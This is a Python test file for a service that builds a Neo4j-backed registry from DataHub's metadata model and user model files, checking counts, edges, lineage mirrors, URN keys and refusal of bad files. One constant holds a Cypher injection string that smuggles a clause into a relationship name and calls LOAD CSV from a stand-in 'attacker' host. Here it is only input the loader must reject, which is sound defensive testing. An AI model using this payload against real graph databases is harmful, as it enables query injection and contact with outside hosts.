"""The model: all of DataHub's, our overrides, and a user's own file."""

import re
from collections import defaultdict
from pathlib import Path
from typing import Any

import orjson
import pytest
import yaml

from graphsvc.errors import BadValue, ConfigError
from graphsvc.graph.registry import AspectSpec, Registry, load_registry
from graphsvc.graph.registry.keys import key_name, key_value
from graphsvc.graph.registry.load import RESERVED_LABELS, RESERVED_PROPERTIES, RESERVED_TYPES
from graphsvc.graph.registry.values import PRIMITIVES, ValueChecker
from graphsvc.urn import parse_urn

FOLDER = Path(__file__).parents[2] / "graphsvc" / "graph" / "registry"
OVERRIDES: dict[str, Any] = yaml.safe_load((FOLDER / "overrides.yaml").read_text(encoding="utf-8"))
RAW_ASPECTS: dict[str, Any] = orjson.loads((FOLDER / "aspects.json").read_bytes())
RAW_ENTITIES: dict[str, Any] = orjson.loads((FOLDER / "entities.json").read_bytes())

# A published injection into the relationship name of another Neo4j-backed metadata service.
INJECTION = "IsMemberOfRole]->(dest) WHERE 1=1 WITH 1337 AS X LOAD CSV FROM 'http://attacker' AS y //"

# (entity type, property) -> every aspect that has a field of that name; the node's property is the first one's.
SHARED_PROPERTIES = {
    ("assertion", "customProperties"): {"assertionInfo", "assertionRunEvent"},
    ("dataProcessInstance", "customProperties"): {"dataProcessInstanceProperties", "mlTrainingRunProperties"},
    ("dataProcessInstance", "externalUrl"): {
        "dataProcessInstanceProperties",
        "dataProcessInstanceRunEvent",
        "mlTrainingRunProperties",
    },
    ("dataset", "platform"): {"datasetKey", "dataPlatformInstance"},
    ("glossaryTerm", "id"): {"glossaryTermKey", "glossaryTermInfo"},
    ("metric", "platform"): {"metricKey", "dataPlatformInstance"},
    ("schemaField", "schemaFieldAliases"): {"schemafieldInfo", "schemaFieldAliases"},
    ("semanticModel", "platform"): {"semanticModelKey", "dataPlatformInstance"},
}


# Annotations of the package that go one step further than the type of their field.
ONE_STEP_LESS = {
    "dataProcessInstanceRelationships/parentTemplate/*": "parentTemplate",
    "dataProcessInstanceRelationships/parentInstance/*": "parentInstance",
    "incidentInfo/startedAt/time": "startedAt",
}


def kind_at(registry: Registry, record: str, path: tuple[str, ...]) -> Any:
    """The type to which a path leads; fails where it leads nowhere."""
    kind: Any = f"@{record}"
    for part in path:
        if isinstance(kind, list):
            assert part == "*"
            kind = kind[1]
        else:
            kind = (kind if isinstance(kind, dict) else registry.records[kind[1:]])[part]
    return kind


def edges(registry: Registry) -> list[tuple[AspectSpec, Any]]:
    return [(aspect, edge) for aspect in registry.aspects.values() for edge in aspect.edges]


# --- DataHub's model, whole ---------------------------------------------------------------------------------------


def test_the_whole_model_is_there(registry: Registry) -> None:
    """Every entity type, aspect and annotation of the package is in the registry; none twice."""
    all_edges = edges(registry)
    lineage = [edge for _, edge in all_edges if edge.lineage]

    assert len(registry.entities) == 72
    assert len(registry.aspects) == 271
    assert sum(aspect.timeseries for aspect in registry.aspects.values()) == 11
    assert len(all_edges) == len({(aspect.name, edge.path) for aspect, edge in all_edges}) == 149
    assert len({aspect.name for aspect, _ in all_edges}) == 75
    assert len({edge.name for _, edge in all_edges}) == 85
    assert len(lineage) == 38
    assert len({edge.name for edge in lineage}) == 16
    assert sum(len(aspect["searchable"]) for aspect in RAW_ASPECTS.values()) == 615
    assert sum("createdOn" in edge.details for _, edge in all_edges) == 18
    assert sum("via" in edge.details for _, edge in all_edges) == 1


def test_fields_are_the_searchable_annotations_but_for_keys_of_maps(registry: Registry) -> None:
    """A `$key` path names the keys of a map, which no value stands under; all other annotations are fields."""
    fields = {(a.name, "/".join(f.path)) for a in registry.aspects.values() for f in a.fields}

    annotated = {(name, s["path"]) for name, raw in RAW_ASPECTS.items() for s in raw["searchable"]}
    assert fields == {(n, ONE_STEP_LESS.get(f"{n}/{path}", path)) for n, path in annotated if "$key" not in path}


def test_every_path_leads_to_something_of_its_aspect(registry: Registry) -> None:
    """Fields, targets and details are where the record types say that there is something; targets are texts."""
    for aspect in registry.aspects.values():
        for edge in aspect.edges:
            assert kind_at(registry, aspect.record, edge.path) == "string"
            assert all(kind_at(registry, aspect.record, path) for path in edge.details.values())
        for field in aspect.fields:
            assert isinstance(kind_at(registry, aspect.record, field.path), str)


def test_edges_say_what_their_annotations_say(registry: Registry) -> None:
    """Name, path, far ends, lineage, direction and details come over as they are annotated."""
    for name, raw in RAW_ASPECTS.items():
        specs = registry.aspects[name].edges
        assert len(specs) == len(raw["relationships"])
        for spec, annotation in zip(specs, raw["relationships"], strict=True):
            details = ("createdOn", "createdActor", "updatedOn", "updatedActor", "properties", "via")
            assert spec.name == annotation["name"]
            assert "/".join(spec.path) == annotation["path"]
            assert spec.destinations == tuple(annotation["entityTypes"])
            assert spec.lineage == annotation.get("isLineage", False)
            assert spec.upstream == annotation.get("isUpstream", True)
            assert {k: "/".join(v) for k, v in spec.details.items()} == {
                k: annotation[k] for k in details if k in annotation
            }


def test_details_stand_beside_their_target(registry: Registry) -> None:
    """An edge's details are in the list item of its target, which is where they are looked for."""
    for _, edge in edges(registry):
        cut = len(edge.path) - edge.path[::-1].index("*") if "*" in edge.path else 0
        assert all(path[:cut] == edge.path[:cut] for path in edge.details.values())


def test_every_entity_type_knows_its_key_and_its_aspects(registry: Registry) -> None:
    """What a type allows is its key aspect and the listed ones; each of them exists."""
    for name, entity in registry.entities.items():
        raw = RAW_ENTITIES[name]
        assert entity.aspects == {raw["keyAspect"], *raw["aspects"]}
        assert entity.aspects <= registry.aspects.keys()
        assert entity.key_fields == tuple(raw["keyFields"])
        assert registry.aspects[entity.key_aspect].key_for == name
        assert 0 <= entity.name_part < len(entity.key_fields)


def test_records_lead_back_to_aspects(registry: Registry) -> None:
    """Every aspect has a record of its own, by which snapshots name it."""
    assert len(registry.aspect_of_record) == 271
    assert all(registry.aspects[name].record == record for record, name in registry.aspect_of_record.items())
    assert registry.aspect_of_record["com.linkedin.common.Status"] == "status"


@pytest.mark.parametrize("refuse_unknown", [False, True])
def test_every_record_can_be_checked(registry: Registry, *, refuse_unknown: bool) -> None:
    """All types that records use are known, and an empty value of any aspect passes."""
    checker = ValueChecker(registry.records, refuse_unknown=refuse_unknown)

    for record in registry.records:
        checker.checked(record, {})

    assert {aspect.record for aspect in registry.aspects.values()} <= registry.records.keys()
    assert {"string", "long", "enum"} <= PRIMITIVES.keys()


def test_the_checker_says_where_and_stops_listing_after_three(registry: Registry) -> None:
    """A refusal names the place of each wrong thing, three at most, and counts the rest."""
    checker = ValueChecker(registry.records)
    value = {"owners": [{"owner": 1}, {"owner": 2}, {"owner": 3}, {"owner": 4}, {"owner": 5}]}

    with pytest.raises(BadValue, match=r"owners/0/owner: .*; owners/1/owner: .*; owners/2/owner: .* and 2 more"):
        checker.checked("com.linkedin.common.Ownership", value)


# --- What stands in the graph -------------------------------------------------------------------------------------


def test_labels_are_plain_identifiers_and_nobody_elses(registry: Registry) -> None:
    """Each entity type has a label of its own that can stand in a query as it is."""
    assert len(registry.labels) == 72
    assert all(re.fullmatch(r"[A-Z][A-Za-z0-9]*", label) for label in registry.labels)
    assert RESERVED_LABELS.isdisjoint(registry.labels)


def test_relationship_types_are_plain_identifiers(registry: Registry) -> None:
    """Each type can stand in a query as it is, and none is one that holds the graph together."""
    assert all(re.fullmatch(r"[A-Za-z][A-Za-z0-9]*", name) for name in registry.relationship_types)
    assert RESERVED_TYPES.isdisjoint(registry.relationship_types)
    assert len(registry.relationship_types) == 85 + 5


def test_every_downstream_lineage_edge_has_a_mirror_and_nothing_else_has(registry: Registry) -> None:
    """Walks follow one direction only, so the five names that point downstream are mirrored, as we call them."""
    mirrored = {edge.name: edge.mirror for _, edge in edges(registry) if edge.mirror}

    assert mirrored == OVERRIDES["mirrors"]
    assert all((edge.lineage and not edge.upstream) == bool(edge.mirror) for _, edge in edges(registry))


def test_mirrors_never_clash(registry: Registry) -> None:
    """No mirror has the name of a relationship, or the type of another mirror's original."""
    names = {edge.name for _, edge in edges(registry)}
    mirrors = list(OVERRIDES["mirrors"].values())

    assert names.isdisjoint(mirrors)
    assert len(set(mirrors)) == len(mirrors)


def test_lineage_types_are_what_walks_follow_upstream(registry: Registry) -> None:
    """Eleven names that point upstream, and five mirrors."""
    expected = {e.name for _, e in edges(registry) if e.lineage and e.upstream} | {*OVERRIDES["mirrors"].values()}

    assert set(registry.lineage_types) == expected
    assert len(registry.lineage_types) == 16
    assert list(registry.lineage_types) == sorted(registry.lineage_types)


def test_a_property_belongs_to_one_aspect(registry: Registry) -> None:
    """Replacing an aspect never touches another one's property; the names that several aspects have are known."""
    shared: dict[tuple[str, str], set[str]] = {}
    for entity in registry.entities.values():
        owners, holders = defaultdict(set), defaultdict(set)
        for aspect in entity.aspects:
            for field in registry.aspects[aspect].fields:
                holders[field.name].add(aspect)
            for field in entity.projected(aspect):
                owners[field.name].add(aspect)
        assert all(len(found) == 1 for found in owners.values())
        shared |= {(entity.name, name): found for name, found in holders.items() if len(found) > 1}

    assert shared == SHARED_PROPERTIES


def test_no_field_takes_the_place_of_a_nodes_own_property(registry: Registry) -> None:
    """`urn`, `name` and `referencedOnly` are ours; lineage is not repeated as a property."""
    for entity in registry.entities.values():
        for aspect in entity.projection:
            fields = list(entity.projected(aspect))
            lineage = {edge.path for edge in registry.aspects[aspect].edges if edge.lineage}
            assert RESERVED_PROPERTIES.isdisjoint(field.name for field in fields)
            assert lineage.isdisjoint(field.path for field in fields)
            assert all(re.fullmatch(r"[A-Za-z][A-Za-z0-9_]*", field.name) for field in fields)


# --- Overrides ----------------------------------------------------------------------------------------------------


def test_mirrored_names_are_downstream_lineage() -> None:
    """An override for a relationship that the model does not have, or no longer mirrors, would be dead."""
    downstream = {
        r["name"]
        for raw in RAW_ASPECTS.values()
        for r in raw["relationships"]
        if r.get("isLineage") and not r.get("isUpstream", True)
    }

    assert OVERRIDES["mirrors"].keys() == downstream


def test_column_lineage_names_a_list_of_its_aspect(registry: Registry) -> None:
    """The field exists and is a list."""
    for aspect, field in OVERRIDES["columnLineage"].items():
        assert registry.records[registry.aspects[aspect].record][field][0] == "array"
        assert registry.aspects[aspect].column_lineage == field


def test_naming_overrides_name_texts_of_aspects_that_the_type_allows(registry: Registry) -> None:
    """Entity type, aspect and every path exist, and each path leads to a text."""
    for name, override in OVERRIDES["naming"].items():
        entity = registry.entities[name]
        record = registry.records[registry.aspects[override["aspect"]].record]
        assert override["aspect"] in entity.aspects
        assert all(record[path] == "string" for path in override["paths"])
        assert entity.naming == (override["aspect"], tuple((path,) for path in override["paths"]))


def test_renamed_fields_exist_and_get_their_names(registry: Registry) -> None:
    """Each override names one searchable field of one aspect."""
    for place, name in OVERRIDES["rename"].items():
        aspect, _, path = place.partition("/")
        found = [field.name for field in registry.aspects[aspect].fields if "/".join(field.path) == path]
        assert found == [name]


def test_there_are_no_overrides_that_nobody_reads() -> None:
    """A section that the loader does not know would be ignored in silence."""
    assert OVERRIDES.keys() == {"mirrors", "columnLineage", "naming", "rename"}


# --- Keys ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("urn", "key", "name"),
    [
        (
            "urn:li:dataset:(urn:li:dataPlatform:hive,db.t%2Cx,PROD)",
            {"platform": "urn:li:dataPlatform:hive", "name": "db.t,x", "origin": "PROD"},
            "db.t,x",
        ),
        ("urn:li:tag:P%C3%A9", {"name": "Pé"}, "Pé"),
        ("urn:li:corpuser:(a,b)", {"username": "a,b"}, "a,b"),
        (
            "urn:li:dataJob:(urn:li:dataFlow:(airflow,a%2Cb,PROD),load)",
            {"flow": "urn:li:dataFlow:(airflow,a%2Cb,PROD)", "jobId": "load"},
            "load",
        ),
        ("urn:li:chart:(looker,c.1)", {"dashboardTool": "looker", "chartId": "c.1"}, "c.1"),
    ],
)
def test_a_urn_gives_its_key_and_a_name(registry: Registry, urn: str, key: dict[str, str], name: str) -> None:
    """Parts are percent-decoded, except those which are URNs: decoded, they would be another entity's."""
    parsed = parse_urn(urn)
    entity = registry.entities[parsed.entity_type]

    assert key_value(entity, parsed) == key
    assert key_name(entity, parsed) == name


# --- A user's model file ------------------------------------------------------------------------------------------

USER_MODEL = """
entities:
  sensor:
    keyFields: [site, id]
    aspects: [sensorInfo, ownership, status]
  dataset:
    aspects: [sensorFeed]
aspects:
  sensorInfo:
    relationships:
      - {path: gateway, name: ReportsVia, entityTypes: [sensor]}
      - {path: feeds/*/to, name: Feeds, entityTypes: [dataset], isLineage: true, isUpstream: false, mirror: FedBy,
         createdOn: feeds/*/at}
      - {path: sources/*, name: Measures, entityTypes: [dataset], isLineage: true}
    searchable:
      - {path: title, isName: true}
      - {path: unit, fieldName: unitOfMeasure, fieldType: KEYWORD}
  sensorFeed: {}
  sensorReading: {timeseries: true}
"""


def written(tmp_path: Path, text: str) -> Path:
    file = tmp_path / "model.yaml"
    file.write_text(text, encoding="utf-8")
    return file


def test_a_model_file_adds_a_type_its_aspects_and_their_relationships(tmp_path: Path) -> None:
    """What the file says is in the registry beside DataHub's own, with label, key, mirror and name."""
    model = load_registry(written(tmp_path, USER_MODEL))

    sensor, info = model.entities["sensor"], model.aspects["sensorInfo"]
    assert (len(model.entities), len(model.aspects)) == (73, 271 + 4)
    assert (sensor.label, sensor.key_aspect, sensor.key_fields) == ("Sensor", "sensorKey", ("site", "id"))
    assert sensor.aspects == {"sensorKey", "sensorInfo", "ownership", "status"}
    assert sensor.naming == ("sensorInfo", (("title",),))
    assert [(e.name, e.path, e.mirror) for e in info.edges] == [
        ("ReportsVia", ("gateway",), None),
        ("Feeds", ("feeds", "*", "to"), "FedBy"),
        ("Measures", ("sources", "*"), None),
    ]
    assert info.edges[1].details == {"createdOn": ("feeds", "*", "at")}
    assert [field.name for field in sensor.projected("sensorInfo")] == ["unitOfMeasure"]
    assert model.aspects["sensorReading"].timeseries
    assert {"FedBy", "Measures"} <= set(model.lineage_types)
    assert "Feeds" not in model.lineage_types
    assert {"ReportsVia", "Feeds", "FedBy"} <= model.relationship_types
    assert "sensorFeed" in model.entities["dataset"].aspects
    assert "ownership" in model.entities["dataset"].aspects


def test_an_empty_model_file_adds_nothing(tmp_path: Path) -> None:
    """A file with comments only is a model file too."""
    model = load_registry(written(tmp_path, "# nothing yet\n"))

    assert (len(model.entities), len(model.aspects)) == (72, 271)


def test_the_shipped_model_is_not_changed_by_a_model_file(tmp_path: Path, registry: Registry) -> None:
    """Two registries in one process do not share what a user added to one of them."""
    load_registry(written(tmp_path, USER_MODEL))

    assert "sensorFeed" not in registry.entities["dataset"].aspects
    assert "sensorInfo" not in registry.aspects


def test_a_downstream_lineage_relationship_without_a_mirror_gets_one(tmp_path: Path) -> None:
    """Walks must find it; the default name is plain to see."""
    text = "aspects: {feed: {relationships: [{path: to/*, name: Feeds, isLineage: true, isUpstream: false}]}}"

    model = load_registry(written(tmp_path, text))

    assert model.aspects["feed"].edges[0].mirror == "ReverseFeeds"
    assert "ReverseFeeds" in model.lineage_types


def relationship(**keys: Any) -> str:
    return yaml.safe_dump({"aspects": {"mine": {"relationships": [{"path": "to", "name": "PointsTo"} | keys]}}})


BAD_FILES = {
    "unknown section": ("entitees: {}", "entitees"),
    "unknown key of an aspect": ("aspects: {mine: {relations: []}}", "aspects.mine.relations"),
    "unknown key of a relationship": (relationship(islineage=True), "aspects.mine.relationships.0.islineage"),
    "unknown key of an entity": ("entities: {sensor: {keys: [id]}}", "entities.sensor.keys"),
    "a list": ("[1, 2]", "dictionary"),
    "not YAML": ("entities: {sensor: [", "not YAML"),
    "existing aspect": ("aspects: {ownership: {}}", "aspect ownership exists already"),
    "existing type with key fields": ("entities: {dataset: {keyFields: [id]}}", "entity type dataset exists already"),
    "unknown aspect of a type": ("entities: {sensor: {aspects: [ownersip]}}", "ownersip"),
    "label of another type": ("entities: {Dataset: {}}", "label of dataset"),
    "label of ours": ("entities: {aspect: {}}", "'aspect' cannot be an entity type"),
    "label of the root": ("entities: {entity: {}}", "'entity' cannot be an entity type"),
    "label of our migrations": ("entities: {migrationLock: {}}", "'migrationLock'"),
    "type of ours": (relationship(name="HAS_ASPECT"), "HAS_ASPECT"),
    "type of ours as a mirror": (relationship(isLineage=True, isUpstream=False, mirror="PREVIOUS"), "PREVIOUS"),
    "mirror with a relationship's name": (
        relationship(isLineage=True, isUpstream=False, mirror="OwnedBy"),
        "a mirror has the name of a relationship: OwnedBy",
    ),
    "upstream here and downstream there": (
        relationship(name="DownstreamOf", isLineage=True, isUpstream=False),
        "DownstreamOf",
    ),
    "injection as a relationship": (relationship(name=INJECTION), "aspects.mine.relationships.0.name"),
    "injection as a mirror": (relationship(mirror=INJECTION), "aspects.mine.relationships.0.mirror"),
    "injection as an entity type": (yaml.safe_dump({"entities": {INJECTION: {}}}), "entities"),
    "injection as an aspect": (yaml.safe_dump({"aspects": {INJECTION: {}}}), "aspects"),
    "injection as a key field": (yaml.safe_dump({"entities": {"x": {"keyFields": [INJECTION]}}}), "keyFields"),
    "injection as a field name": (
        yaml.safe_dump({"aspects": {"mine": {"searchable": [{"path": "a", "fieldName": INJECTION}]}}}),
        "aspects.mine.searchable.0.fieldName",
    ),
    "backtick": (relationship(name="A`B"), "aspects.mine.relationships.0.name"),
    "escaped backtick": (relationship(name="A\\u0060B"), "aspects.mine.relationships.0.name"),
    "line break at the end": (relationship(name="PointsTo\n"), "aspects.mine.relationships.0.name"),
    "letters of another script": (relationship(name="PointsTö"), "aspects.mine.relationships.0.name"),
    "digit first": (relationship(name="1st"), "aspects.mine.relationships.0.name"),
    "empty name": (relationship(name=""), "aspects.mine.relationships.0.name"),
    "very long name": (relationship(name="A" * 101), "aspects.mine.relationships.0.name"),
    "empty path": (relationship(path=""), "aspects.mine.relationships.0.path"),
    "path with an empty step": (relationship(path="a//b"), "aspects.mine.relationships.0.path"),
    "path that starts with a star": (relationship(path="*/a"), "aspects.mine.relationships.0.path"),
    "relationships of a timeseries": (
        "aspects: {mine: {timeseries: true, relationships: [{path: to, name: PointsTo}]}}",
        "aspect mine is a timeseries",
    ),
}


@pytest.mark.parametrize("case", BAD_FILES)
def test_a_bad_model_file_is_refused_with_its_place(tmp_path: Path, case: str) -> None:
    """The process does not start, and the message names the file and what in it is wrong."""
    text, place = BAD_FILES[case]
    file = written(tmp_path, text)

    with pytest.raises(ConfigError) as caught:
        load_registry(file)

    assert str(file) in str(caught.value)
    assert place in str(caught.value)


def test_a_model_file_that_is_not_there_is_refused(tmp_path: Path) -> None:
    """The message names the file."""
    with pytest.raises(ConfigError, match=r"nowhere\.yaml cannot be read"):
        load_registry(tmp_path / "nowhere.yaml")


def test_a_model_file_that_is_not_text_is_refused(tmp_path: Path) -> None:
    """Bytes that are not UTF-8 are no model, and no traceback."""
    file = tmp_path / "model.yaml"
    file.write_bytes(b"\xff\xfe\x00aspects: {}")

    with pytest.raises(ConfigError, match=re.escape(str(file))):
        load_registry(file)
